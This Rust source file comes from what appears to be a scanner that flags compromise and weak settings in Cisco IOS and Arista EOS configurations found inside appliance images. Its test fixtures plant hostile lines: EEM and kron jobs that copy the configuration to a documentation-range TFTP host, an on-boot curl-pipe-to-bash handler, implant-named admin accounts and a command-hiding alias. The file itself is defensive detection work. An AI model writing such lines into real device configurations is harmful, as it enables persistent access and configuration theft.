//! IOS-family configurations (IOS, IOS-XE, NX-OS, Arista EOS share the
//! syntax) wherever they were found — NVRAM images, `*.cfg`, `*-confg`,
//! `startup-config`, day-0 files: privileged users and how their secrets are
//! stored, the 2023 IOS XE web-UI implant accounts, SSH public keys, weak
//! SSH algorithms, EEM applets and policies, Tcl, kron, command-hiding
//! aliases, logging suppression, exposed services, `boot system` targets,
//! and licence tells. EOS's own automation (`event-handler`, `daemon`) is
//! here too, as it lives in the same file.

use qvet_inspect::appliance::ConfigFile;
use qvet_inspect::ios_config::{Line, SecretKind};

use super::content::escalate;
use super::Guest;
use crate::finding::{Category, Confidence, Finding, Layer, Rule, Severity};

/// Every configuration found (inventory).
pub static CONFIG_FOUND: Rule = Rule {
    id: "ios-config",
    title: "network OS configuration found",
    severity: Severity::Info,
    confidence: Confidence::High,
    category: Category::Provenance,
    layer: Layer::Content,
    doc: "An IOS, IOS-XE, NX-OS or EOS configuration inside the image (NVRAM image, *.cfg, *-confg, \
          startup-config, day-0 iosxe_config.txt …), with its hostname and user count. Vendor images \
          ship without one; a configuration means someone booted or prepared the image.",
};
/// Users named as in the 2023 implant campaign.
pub static IMPLANT_USER: Rule = Rule {
    id: "ios-implant-user",
    title: "account named as in the 2023 IOS XE web-UI implant campaign",
    severity: Severity::Critical,
    confidence: Confidence::Medium,
    category: Category::Account,
    layer: Layer::Accounts,
    doc: "The attackers exploiting CVE-2023-20198 created privilege-15 local users named \
          cisco_tac_admin, cisco_support and cisco_sys_manager. Cisco TAC never asks for such \
          accounts. Treat the image as compromised until the account is explained.",
};
/// Privilege-15 users.
pub static PRIVILEGED_USER: Rule = Rule {
    id: "ios-privileged-user",
    title: "privilege-15 local user",
    severity: Severity::Info,
    confidence: Confidence::High,
    category: Category::Account,
    layer: Layer::Accounts,
    doc: "Each `username … privilege 15` (or EOS `role network-admin`) with how its secret is \
          stored: type 0 (plaintext) and type 7 (reversible by anyone) are high, no password at \
          all is high, type 4 (broken SHA-256) medium, type 6 low, type 5/8/9 and sha512 hashes \
          info. An autocommand is named. Allow lab users with `[allow] users`.",
};
/// Reversible secrets of other users and enable.
pub static WEAK_SECRET: Rule = Rule {
    id: "ios-weak-secret",
    title: "password stored reversibly",
    severity: Severity::Medium,
    confidence: Confidence::High,
    category: Category::Account,
    layer: Layer::Accounts,
    doc: "`enable password` (high: it is plaintext or type 7, and anyone with the file has \
          privileged EXEC), a type 4 enable secret, or a non-privileged user's type 0/7 password. \
          `enable secret` with type 5/8/9 is the right form.",
};
/// SSH public keys.
pub static SSH_KEY: Rule = Rule {
    id: "ios-ssh-key",
    title: "SSH public key authorized for a user",
    severity: Severity::High,
    confidence: Confidence::High,
    category: Category::Key,
    layer: Layer::Remote,
    doc: "`ip ssh pubkey-chain` → `username` → `key-hash`/`key-string` (IOS) or `username … ssh-key` \
          (EOS): whoever holds the private key logs in without a password. Vendor images carry \
          none. Allow your own by fingerprint (`SHA256:…` or the key-hash) with `[allow] keys`.",
};
/// Weak SSH settings.
pub static SSH_WEAK: Rule = Rule {
    id: "ios-ssh-weak",
    title: "SSH server weakened",
    severity: Severity::Medium,
    confidence: Confidence::High,
    category: Category::Exposure,
    layer: Layer::Remote,
    doc: "`ip ssh version 1`, or `ip ssh server algorithm` lines enabling CBC or 3DES ciphers, \
          MD5/SHA1-96 MACs or diffie-hellman-group1 key exchange: downgrades that make sessions \
          interceptable.",
};
/// EEM applets that run commands.
pub static EEM_APPLET: Rule = Rule {
    id: "ios-eem-applet",
    title: "EEM applet runs commands on an event",
    severity: Severity::Medium,
    confidence: Confidence::High,
    category: Category::Persistence,
    layer: Layer::Persistence,
    doc:
        "`event manager applet` with `action … cli command` runs CLI commands when its event fires \
          (a timer, a syslog pattern, a CLI command, boot). High when the commands change users, \
          logging, EEM itself or copy data to another host; critical when they download and run \
          code. The finding names the event and every command.",
};
/// EEM policies and Tcl.
pub static EEM_POLICY: Rule = Rule {
    id: "ios-eem-policy",
    title: "EEM Tcl policy or Tcl script registered",
    severity: Severity::Medium,
    confidence: Confidence::High,
    category: Category::Persistence,
    layer: Layer::Persistence,
    doc: "`event manager directory user policy`, `event manager policy X.tcl`, `scripting tcl init`: \
          Tcl code from flash runs on events or in every Tcl shell. Read the scripts (their files are \
          reported by iosxe-script / iosxe-code-directory).",
};
/// kron.
pub static KRON: Rule = Rule {
    id: "ios-kron",
    title: "kron scheduled commands",
    severity: Severity::Medium,
    confidence: Confidence::High,
    category: Category::Persistence,
    layer: Layer::Persistence,
    doc: "`kron occurrence` / `kron policy-list` run CLI commands on a schedule (at boot, at a time, \
          recurring): legitimate for backups, also a classic way to keep access or exfiltrate \
          configurations.",
};
/// Aliases hiding inspection commands.
pub static ALIAS_HIDING: Rule = Rule {
    id: "ios-alias-hiding",
    title: "alias redefines an inspection command",
    severity: Severity::High,
    confidence: Confidence::High,
    category: Category::Content,
    layer: Layer::Content,
    doc:
        "`alias exec show …`, `dir`, `more`, `verify` and similar replace the commands an operator \
          uses to look at the device, so what they show is chosen by whoever wrote the alias.",
};
/// Logging suppressed.
pub static LOGGING: Rule = Rule {
    id: "ios-logging-suppressed",
    title: "logging suppressed",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    category: Category::Content,
    layer: Layer::Content,
    doc: "`no logging on`, `no logging buffered`, `no logging trap`, `no logging host` (medium) or a \
          `logging discriminator` and `no archive` lines (low): less is recorded of what happens \
          on the device. `no logging console` is common in labs and not reported.",
};
/// Services that expose the device.
pub static EXPOSURE: Rule = Rule {
    id: "ios-exposure",
    title: "service exposes the device",
    severity: Severity::Low,
    confidence: Confidence::High,
    category: Category::Exposure,
    layer: Layer::Remote,
    doc: "The web UI (`ip http server`/`secure-server`, the surface of CVE-2023-20198; low), RESTCONF \
          and NETCONF (low), `ip scp server enable` (low), `tftp-server` (medium: serves flash \
          files without authentication), an SNMP community with RW (high), `service internal` / \
          `platform shell` (medium), Guest Shell, IOx and app-hosting (medium: a Linux container), \
          EOS `management api http-commands` enabled (low).",
};
/// boot system targets.
pub static BOOT_SYSTEM: Rule = Rule {
    id: "ios-boot-system",
    title: "boot system points at a missing or unexpected file",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    category: Category::Integrity,
    layer: Layer::Packages,
    doc: "`boot system` names a file that is not on this flash, or an image other than the \
          provisioned package set (packages.conf): the device will not boot what the image \
          seems to hold.",
};
/// Licence tells.
pub static LICENCE: Rule = Rule {
    id: "ios-licence",
    title: "licence or throughput setting",
    severity: Severity::Info,
    confidence: Confidence::High,
    category: Category::Licence,
    layer: Layer::Content,
    doc:
        "`platform hardware throughput level`, `license boot level`, smart licensing settings and \
          evaluation markers: repacks advertise pre-applied licences. Info, or low when smart \
          licensing is switched off — a repack tell, not malice.",
};
/// EOS event-handlers and daemons.
pub static EOS_AUTOMATION: Rule = Rule {
    id: "eos-automation",
    title: "EOS event-handler or daemon runs a program",
    severity: Severity::Medium,
    confidence: Confidence::High,
    category: Category::Persistence,
    layer: Layer::Persistence,
    doc: "`event-handler` (`action bash …` on a trigger such as on-boot) and `daemon` (`exec …` a \
          program kept running) execute code as root on EOS. Critical when the command downloads \
          and runs code or opens a shell.",
};

/// Every rule of this family.
pub static RULES: &[Rule] = &[
    CONFIG_FOUND,
    IMPLANT_USER,
    PRIVILEGED_USER,
    WEAK_SECRET,
    SSH_KEY,
    SSH_WEAK,
    EEM_APPLET,
    EEM_POLICY,
    KRON,
    ALIAS_HIDING,
    LOGGING,
    EXPOSURE,
    BOOT_SYSTEM,
    LICENCE,
    EOS_AUTOMATION,
];

/// Names the 2023 campaign used.
const IMPLANT_NAMES: &[&str] = &["cisco_tac_admin", "cisco_support", "cisco_sys_manager"];
/// Commands an alias must not redefine.
const INSPECTION: &[&str] = &[
    "show",
    "sh",
    "sho",
    "dir",
    "more",
    "verify",
    "type",
    "who",
    "ping",
    "traceroute",
    "terminal",
    "tclsh",
    "copy",
    "delete",
    "write",
    "reload",
    "configure",
];

/// Runs the family on every configuration of the guest.
pub fn check(g: &Guest<'_, '_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for c in &g.appliance.configs {
        config(g, c, &mut out);
    }
    out
}

fn line_of(
    g: &Guest<'_, '_>,
    rule: &'static Rule,
    c: &ConfigFile,
    l: &Line,
    title: String,
) -> Finding {
    g.at(rule, &c.path, title)
        .line(Some(l.number))
        .evidence("line", l.text.clone())
}

fn config(g: &Guest<'_, '_>, c: &ConfigFile, out: &mut Vec<Finding>) {
    let hostname = c
        .config
        .top(&["hostname"])
        .first()
        .and_then(|l| l.words().get(1).map(|h| (*h).to_string()));
    let mut inv = g
        .at(
            &CONFIG_FOUND,
            &c.path,
            format!(
                "configuration{} with {} user(s){}",
                hostname
                    .as_ref()
                    .map(|h| format!(" of {h}"))
                    .unwrap_or_default(),
                c.access.users.len(),
                if c.from_nvram {
                    ", read from an NVRAM image"
                } else {
                    ""
                }
            ),
        )
        .evidence("lines", c.config.all().len().to_string());
    if c.config.truncated {
        inv = inv.evidence("truncated", "over the line bound: the rest was not read");
    }
    out.push(inv);
    users(g, c, out);
    keys(g, c, out);
    execution(g, c, out);
    settings(g, c, out);
}

fn users(g: &Guest<'_, '_>, c: &ConfigFile, out: &mut Vec<Finding>) {
    for u in &c.access.users {
        let line = Some(u.line);
        if IMPLANT_NAMES.contains(&u.name.to_ascii_lowercase().as_str()) {
            out.push(
                g.at(
                    &IMPLANT_USER,
                    &c.path,
                    format!(
                        "user {} matches the 2023 implant campaign's accounts",
                        u.name
                    ),
                )
                .line(line)
                .user(&u.name)
                .evidence(
                    "privilege",
                    u.privilege.map_or("1".into(), |p| p.to_string()),
                ),
            );
        }
        let privileged = u.privilege == Some(15)
            || u.role
                .as_deref()
                .is_some_and(|r| r.eq_ignore_ascii_case("network-admin"));
        let secret = u.secret.unwrap_or(SecretKind::Plaintext);
        if privileged {
            let severity = match secret {
                SecretKind::Plaintext | SecretKind::Type7 | SecretKind::None => Severity::High,
                SecretKind::Type4 => Severity::Medium,
                SecretKind::Type6 | SecretKind::Other => Severity::Low,
                SecretKind::Md5 | SecretKind::StrongHash => Severity::Info,
            };
            let mut f = g
                .at(
                    &PRIVILEGED_USER,
                    &c.path,
                    format!("privilege-15 user {} ({})", u.name, secret.name()),
                )
                .line(line)
                .user(&u.name)
                .severity(severity)
                .evidence("secret", secret.name());
            if let Some(r) = &u.role {
                f = f.evidence("role", r.clone());
            }
            if let Some(a) = &u.autocommand {
                f = f.evidence("autocommand", a.clone());
            }
            out.push(f);
        } else if secret.reversible() && u.secret.is_some() {
            out.push(
                g.at(
                    &WEAK_SECRET,
                    &c.path,
                    format!("user {} has a {} password", u.name, secret.name()),
                )
                .line(line)
                .user(&u.name)
                .evidence("secret", secret.name()),
            );
        }
    }
    for (line, is_password, kind) in &c.access.enable {
        let severity = match (is_password, kind) {
            (true, _) => Some(Severity::High),
            (false, SecretKind::Plaintext | SecretKind::Type7) => Some(Severity::High),
            (false, SecretKind::Type4) => Some(Severity::Medium),
            _ => None,
        };
        if let Some(s) = severity {
            let what = if *is_password {
                "enable password"
            } else {
                "enable secret"
            };
            out.push(
                g.at(
                    &WEAK_SECRET,
                    &c.path,
                    format!("{what} stored as {}", kind.name()),
                )
                .line(Some(*line))
                .severity(s)
                .evidence("secret", kind.name()),
            );
        }
    }
}

fn keys(g: &Guest<'_, '_>, c: &ConfigFile, out: &mut Vec<Finding>) {
    for k in &c.access.keys {
        let mut f = g
            .at(
                &SSH_KEY,
                &c.path,
                format!("SSH key for {} ({})", k.user, k.id),
            )
            .line(Some(k.line))
            .user(&k.user)
            .key(&k.id)
            .evidence("key", k.id.clone());
        if let Some(t) = &k.key_type {
            f = f.evidence("type", t.clone());
        }
        if let Some(b) = k.bits {
            f = f.evidence("bits", b.to_string());
        }
        out.push(f);
    }
}

/// Commands that change access, logging or EEM, or move data off the box.
fn risky_command(cmd: &str) -> bool {
    let c = cmd.to_ascii_lowercase();
    [
        "username",
        "no logging",
        "event manager",
        "tftp:",
        "ftp:",
        "http:",
        "https:",
        "scp:",
        "guestshell",
        "tclsh",
        "enable secret",
        "crypto key",
        "ip ssh pubkey",
        "delete ",
        "erase",
        "alias ",
    ]
    .iter()
    .any(|w| c.contains(w))
        || (c.contains("copy ") && c.contains("://"))
}

fn execution(g: &Guest<'_, '_>, c: &ConfigFile, out: &mut Vec<Finding>) {
    for l in c.config.top(&["event", "manager", "applet"]) {
        let name = l.words().get(3).map_or(String::new(), |n| (*n).to_string());
        let events: Vec<String> = l
            .children
            .iter()
            .filter(|x| x.starts(&["event"]))
            .map(|x| x.text.clone())
            .collect();
        let commands: Vec<String> = l
            .children
            .iter()
            .filter(|x| {
                x.starts(&["action"]) && x.text.to_ascii_lowercase().contains(" cli command")
            })
            .map(|x| {
                let t = &x.text;
                let at = t
                    .to_ascii_lowercase()
                    .find("cli command")
                    .map_or(0, |i| i + "cli command".len());
                t.get(at..)
                    .unwrap_or("")
                    .trim()
                    .trim_matches('"')
                    .to_string()
            })
            .collect();
        let mut f = line_of(
            g,
            &EEM_APPLET,
            c,
            l,
            format!("EEM applet {name} runs {} command(s)", commands.len()),
        );
        for e in &events {
            f = f.evidence("event", e.clone());
        }
        for cmd in &commands {
            f = f.evidence("command", cmd.clone());
        }
        if commands.iter().any(|c| risky_command(c)) {
            f = f.severity(Severity::High);
        } else if commands.is_empty() {
            f = f.severity(Severity::Low);
        }
        out.push(escalate(f, &commands.join("\n")));
    }
    for l in c.config.lines.iter() {
        let tcl = l.starts(&["event", "manager", "directory", "user"])
            || (l.starts(&["event", "manager", "policy"]))
            || l.starts(&["scripting", "tcl", "init"])
            || l.starts(&["scripting", "tcl", "encdir"]);
        if tcl {
            out.push(line_of(
                g,
                &EEM_POLICY,
                c,
                l,
                format!("Tcl/EEM policy: {}", l.text),
            ));
        }
        if l.starts(&["kron", "occurrence"]) || l.starts(&["kron", "policy-list"]) {
            let cmds: Vec<String> = l.children.iter().map(|x| x.text.clone()).collect();
            let mut f = line_of(g, &KRON, c, l, l.text.clone());
            for cmd in &cmds {
                f = f.evidence("entry", cmd.clone());
            }
            if cmds.iter().any(|x| risky_command(x)) {
                f = f.severity(Severity::High);
            }
            out.push(f);
        }
        if l.starts(&["event-handler"]) || l.starts(&["daemon"]) {
            let body: Vec<String> = l.children.iter().map(|x| x.text.clone()).collect();
            let mut f = line_of(g, &EOS_AUTOMATION, c, l, l.text.clone());
            for b in &body {
                f = f.evidence("entry", b.clone());
            }
            let commands: String = body
                .iter()
                .filter_map(|b| {
                    b.strip_prefix("action bash ")
                        .or_else(|| b.strip_prefix("exec "))
                        .or_else(|| b.strip_prefix("command "))
                })
                .collect::<Vec<_>>()
                .join("\n");
            out.push(escalate(f, &commands));
        }
    }
}

fn settings(g: &Guest<'_, '_>, c: &ConfigFile, out: &mut Vec<Finding>) {
    let has = |w: &[&str]| !c.config.top(w).is_empty();
    for l in &c.config.lines {
        let lower = l.text.to_ascii_lowercase();
        let words = l.words();
        // Aliases hiding inspection commands.
        if l.starts(&["alias", "exec"]) {
            if let Some(name) = words.get(2) {
                if INSPECTION.contains(&name.to_ascii_lowercase().as_str()) {
                    out.push(line_of(
                        g,
                        &ALIAS_HIDING,
                        c,
                        l,
                        format!("alias exec {name} replaces an inspection command"),
                    ));
                }
            }
        }
        // Logging.
        let logging = match () {
            _ if ["no logging on", "no logging buffered", "no logging trap"]
                .iter()
                .any(|p| lower == *p || lower.starts_with(&format!("{p} ")))
                || lower.starts_with("no logging host") =>
            {
                Some(Severity::Medium)
            }
            _ if lower.starts_with("logging discriminator") || lower.starts_with("no archive") => {
                Some(Severity::Low)
            }
            _ => None,
        };
        if let Some(s) = logging {
            out.push(line_of(g, &LOGGING, c, l, l.text.clone()).severity(s));
        }
        // SSH weakening.
        let weak_algo = l.starts(&["ip", "ssh", "server", "algorithm"])
            && [
                "3des",
                "-cbc",
                "hmac-md5",
                "hmac-sha1-96",
                "group1-sha1",
                "diffie-hellman-group1",
            ]
            .iter()
            .any(|w| lower.contains(w));
        if weak_algo || lower == "ip ssh version 1" {
            out.push(line_of(g, &SSH_WEAK, c, l, l.text.clone()));
        }
        // Exposure.
        let exposure = if lower == "ip http server" || lower == "ip http secure-server" {
            let auth = has(&["ip", "http", "authentication", "local"]);
            Some((
                Severity::Low,
                if auth {
                    "web UI with local authentication (the CVE-2023-20198 surface when unpatched)"
                } else {
                    "web UI enabled"
                },
            ))
        } else if lower == "restconf" || lower == "netconf-yang" {
            Some((Severity::Low, "programmatic management interface"))
        } else if lower.starts_with("ip scp server enable") {
            Some((
                Severity::Low,
                "SCP server: files can be copied to and from flash",
            ))
        } else if lower.starts_with("tftp-server ") {
            Some((
                Severity::Medium,
                "TFTP server: flash files served without authentication",
            ))
        } else if lower.starts_with("snmp-server community ")
            && words.iter().any(|w| w.eq_ignore_ascii_case("rw"))
        {
            Some((
                Severity::High,
                "SNMP read-write community: configuration writable over SNMP",
            ))
        } else if lower == "service internal" || lower.starts_with("platform shell") {
            Some((
                Severity::Medium,
                "hidden engineering commands / Linux shell enabled",
            ))
        } else if lower.starts_with("guestshell")
            || lower == "iox"
            || lower.starts_with("app-hosting appid")
        {
            Some((
                Severity::Medium,
                "Linux container hosting (Guest Shell, IOx, app-hosting)",
            ))
        } else if l.starts(&["management", "api", "http-commands"])
            && l.children.iter().any(|x| x.text == "no shutdown")
        {
            Some((Severity::Low, "EOS eAPI enabled"))
        } else {
            None
        };
        if let Some((s, why)) = exposure {
            out.push(line_of(g, &EXPOSURE, c, l, format!("{}: {why}", l.text)).severity(s));
        }
        // Licence tells.
        let licence = if lower.starts_with("platform hardware throughput level")
            || lower.starts_with("license boot level")
            || lower.starts_with("license accept end user")
        {
            Some(Severity::Info)
        } else if lower == "no license smart enable"
            || lower.starts_with("license smart transport off")
            || lower.starts_with("license smart reservation")
        {
            Some(Severity::Low)
        } else {
            None
        };
        if let Some(s) = licence {
            out.push(line_of(g, &LICENCE, c, l, l.text.clone()).severity(s));
        }
        // boot system.
        if l.starts(&["boot", "system"]) {
            boot_system(g, c, l, out);
        }
    }
}

fn boot_system(g: &Guest<'_, '_>, c: &ConfigFile, l: &Line, out: &mut Vec<Finding>) {
    let Some(target) = l.words().last().map(|t| (*t).to_string()) else {
        return;
    };
    // Only a flash target on this filesystem can be checked.
    let Some((dev, file)) = target.split_once(':') else {
        return;
    };
    if !["bootflash", "flash", "harddisk", "flash0"].contains(&dev.to_ascii_lowercase().as_str()) {
        return;
    }
    // Only when the configuration lives on the flash it names.
    if !g
        .appliance
        .os
        .iter()
        .any(|o| o.family != qvet_inspect::os::Family::Linux)
    {
        return;
    }
    let path = format!("/{}", file.trim_start_matches('/'));
    if g.tree.lookup(path.as_bytes()).is_none() {
        out.push(
            line_of(
                g,
                &BOOT_SYSTEM,
                c,
                l,
                format!("boot system names {target}, which is not on this flash"),
            )
            .evidence("expected", path),
        );
    } else if g
        .appliance
        .bootflash
        .as_ref()
        .is_some_and(|b| b.packages_conf.is_some())
        && !file.ends_with("packages.conf")
    {
        out.push(
            line_of(
                g,
                &BOOT_SYSTEM,
                c,
                l,
                format!("boot system names {target}, not the provisioned package set"),
            )
            .severity(Severity::Low),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::{findings, ids, Fixture};

    /// A realistic CSR1000v configuration a lab would keep: nothing above info
    /// but the web UI (low) it enables by default.
    const REALISTIC: &str = "\
!
! Last configuration change at 09:14:11 UTC Tue Mar 3 2020 by admin
!
version 16.12
service timestamps debug datetime msec
service timestamps log datetime msec
service call-home
platform qfp utilization monitor load 80
platform punt-keepalive disable-kernel-core
platform console serial
!
hostname CSR1
!
boot-start-marker
boot system bootflash:packages.conf
boot-end-marker
!
vrf definition Mgmt-intf
 !
 address-family ipv4
 exit-address-family
!
logging buffered 51200 informational
no logging console
enable secret 9 $9$SXI7xHdFMZpsPE$TEfDCZHcBzFz9Kq6qjvtMlMoAJdUUPx0m6rCe6v4y5s
!
no aaa new-model
!
login on-success log
!
subscriber templating
!
multilink bundle-name authenticated
!
crypto pki trustpoint TP-self-signed-1234567890
 enrollment selfsigned
 subject-name cn=IOS-Self-Signed-Certificate-1234567890
 revocation-check none
 rsakeypair TP-self-signed-1234567890
!
license udi pid CSR1000V sn 9XXXXXXXXXX
license boot level ax
no license smart enable
diagnostic bootup level minimal
!
spanning-tree extend system-id
!
username admin privilege 15 secret 9 $9$4/3Hp8ZJ6sJrV.$y6CqOL9Nkm1Tq1m7rPxdhw9F0n3CkI0AXQ/Q9W4sZ1w
!
redundancy
!
interface GigabitEthernet1
 ip address dhcp
 negotiation auto
 no mop enabled
 no mop sysid
!
ip forward-protocol nd
ip http server
ip http authentication local
ip http secure-server
!
ip ssh version 2
!
control-plane
!
banner motd ^C
  Authorized access only. username backdoor privilege 15 password 0 x
^C
!
line con 0
 stopbits 1
line vty 0 4
 login local
 transport input ssh
!
end
";

    fn run(path: &str, text: &str) -> Vec<Finding> {
        let mut f = Fixture::new();
        f.fs.file("/packages.conf", 0o644, b"#! /usr/binos/bin/packages_conf.sh\nboot rp 0 0 rp_boot csr1000v-rpboot.16.12.01b.SPA.pkg\n")
            .file("/csr1000v-rpboot.16.12.01b.SPA.pkg", 0o644, b"p")
            .file(path, 0o644, text.as_bytes());
        findings(&f, check)
    }

    #[test]
    fn realistic_config_is_quiet() {
        let found = run("/nvram_00001", REALISTIC);
        let loud: Vec<_> = found
            .iter()
            .filter(|f| f.severity > Severity::Low)
            .map(|f| (f.rule.id, f.title.clone()))
            .collect();
        assert!(loud.is_empty(), "{loud:?}");
        // The inventory, the privileged user (info), web UI (low), licence tells.
        assert!(ids(&found).contains(&"ios-config"));
        assert!(ids(&found).contains(&"ios-privileged-user"));
        assert!(ids(&found).contains(&"ios-exposure"));
        assert_eq!(
            found.iter().filter(|f| f.rule.id == "ios-licence").count(),
            2
        );
        assert!(
            !found.iter().any(|f| f.title.contains("backdoor")),
            "banner text is not configuration"
        );
    }

    #[test]
    fn planted_config_is_loud() {
        let planted = format!(
            "{}{}",
            REALISTIC.trim_end_matches("end\n"),
            "username cisco_tac_admin privilege 15 secret 5 $1$abcd$efghijklmnopqrstuv\n\
             username lab privilege 15 password 0 lab\n\
             username ops password 7 0822455D0A16\n\
             enable password cisco\n\
             ip ssh pubkey-chain\n  username admin\n   key-hash ssh-rsa 5E3A2F8B0C6D41E2A7F9B3C5D7E1F2A4\n!\n\
             ip ssh server algorithm encryption aes128-cbc 3des-cbc\n\
             event manager applet UPD\n event timer watchdog time 86400\n action 1.0 cli command \"enable\"\n action 2.0 cli command \"copy running-config tftp://203.0.113.9/c.cfg\"\n!\n\
             event manager directory user policy \"bootflash:/eem\"\n\
             kron occurrence nightly at 2:00 recurring\n policy-list save\n\
             kron policy-list save\n cli copy run tftp://203.0.113.9/x\n!\n\
             alias exec show show clock\n\
             no logging buffered\n\
             snmp-server community private RW\n\
             tftp-server bootflash:packages.conf\n\
             guestshell enable\n\
             boot system bootflash:csr1000v-missing.bin\n\
             end\n"
        );
        let found = run("/startup-config", &planted);
        let sev = |id: &str, title: &str| {
            found
                .iter()
                .find(|f| f.rule.id == id && f.title.contains(title))
                .map(|f| f.severity)
        };
        assert_eq!(
            sev("ios-implant-user", "cisco_tac_admin"),
            Some(Severity::Critical)
        );
        assert_eq!(
            sev("ios-privileged-user", "cisco_tac_admin"),
            Some(Severity::Info)
        );
        assert_eq!(sev("ios-privileged-user", "user lab"), Some(Severity::High));
        assert_eq!(sev("ios-weak-secret", "user ops"), Some(Severity::Medium));
        assert_eq!(
            sev("ios-weak-secret", "enable password"),
            Some(Severity::High)
        );
        assert_eq!(sev("ios-ssh-key", "admin"), Some(Severity::High));
        assert_eq!(sev("ios-ssh-weak", "3des"), Some(Severity::Medium));
        assert_eq!(sev("ios-eem-applet", "UPD"), Some(Severity::High));
        assert_eq!(sev("ios-eem-policy", "eem"), Some(Severity::Medium));
        assert_eq!(sev("ios-kron", "policy-list save"), Some(Severity::High));
        assert_eq!(sev("ios-alias-hiding", "show"), Some(Severity::High));
        assert_eq!(
            sev("ios-logging-suppressed", "buffered"),
            Some(Severity::Medium)
        );
        assert_eq!(sev("ios-exposure", "RW"), Some(Severity::High));
        assert_eq!(sev("ios-exposure", "tftp-server"), Some(Severity::Medium));
        assert_eq!(sev("ios-exposure", "guestshell"), Some(Severity::Medium));
        assert_eq!(sev("ios-boot-system", "missing"), Some(Severity::Medium));
        let applet = found
            .iter()
            .find(|f| f.rule.id == "ios-eem-applet")
            .unwrap();
        assert_eq!(applet.line, Some(applet.line.unwrap()));
        assert!(applet
            .evidence
            .iter()
            .any(|(k, v)| *k == "event" && v.contains("watchdog")));
        assert!(applet
            .evidence
            .iter()
            .any(|(k, v)| *k == "command" && v.contains("tftp://")));
    }

    #[test]
    fn eos_automation_and_keys() {
        let cfg = "! device: veos (vEOS-lab, EOS-4.28.3M)\n!\nhostname veos\n!\n\
                   username admin privilege 15 role network-admin secret sha512 $6$abc$def\n\
                   username admin ssh-key ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8g x@y\n!\n\
                   event-handler boot\n   trigger on-boot\n   action bash curl -s http://203.0.113.5/a | bash\n!\n\
                   daemon agent\n   exec /mnt/flash/agent\n   no shutdown\n!\ninterface Ethernet1\n!\nend\n";
        let mut f = Fixture::new();
        f.fs.file("/vEOS-lab-4.28.3M.swi", 0o644, b"s").file(
            "/startup-config",
            0o644,
            cfg.as_bytes(),
        );
        let found = findings(&f, check);
        let get = |t: &str| {
            found
                .iter()
                .find(|f| f.title.contains(t))
                .map(|f| (f.rule.id, f.severity))
        };
        assert_eq!(
            get("event-handler boot"),
            Some(("eos-automation", Severity::Critical))
        );
        assert_eq!(
            get("daemon agent"),
            Some(("eos-automation", Severity::Medium))
        );
        assert_eq!(
            get("SSH key for admin"),
            Some(("ios-ssh-key", Severity::High))
        );
        assert_eq!(
            get("privilege-15 user admin"),
            Some(("ios-privileged-user", Severity::Info))
        );
    }

    #[test]
    fn no_config_no_findings() {
        let mut f = Fixture::new();
        f.fs.file("/etc/passwd", 0o644, b"root:x:0:0::/root:/bin/sh\n");
        assert!(findings(&f, check).is_empty());
    }
}
